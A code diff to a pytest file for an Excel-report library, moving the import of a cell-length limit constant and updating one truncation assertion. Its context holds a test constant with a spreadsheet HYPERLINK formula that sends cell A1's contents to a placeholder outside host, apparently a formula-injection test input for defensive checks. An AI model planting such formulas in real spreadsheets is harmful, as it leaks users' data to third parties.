@@ -17,6 +17,7 @@ import pytest
 
 from cxscore import Options, score
 from cxscore.report import excel
+from cxscore.report.cells import CELL_LIMIT
 from conftest import SAMPLE, invoke, run_process
 
 HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")'
@@ -104,7 +105,7 @@ def test_a_cell_keeps_a_leading_tab_and_is_cut_at_excels_limit():
     nonchar = excel.put(ws, 6, 1, "a\uffffb\x00")  # not allowed in XML: the saved file would need repair
     assert nonchar.value == "a\\uffffb\\x00"
     long = excel.put(ws, 5, 1, "x" * 40000)
-    assert len(long.value) == excel.CELL_LIMIT and long.value.endswith("…")
+    assert len(long.value) == CELL_LIMIT and long.value.endswith("…")
 
 
 def _csv(text: str) -> list[dict]:
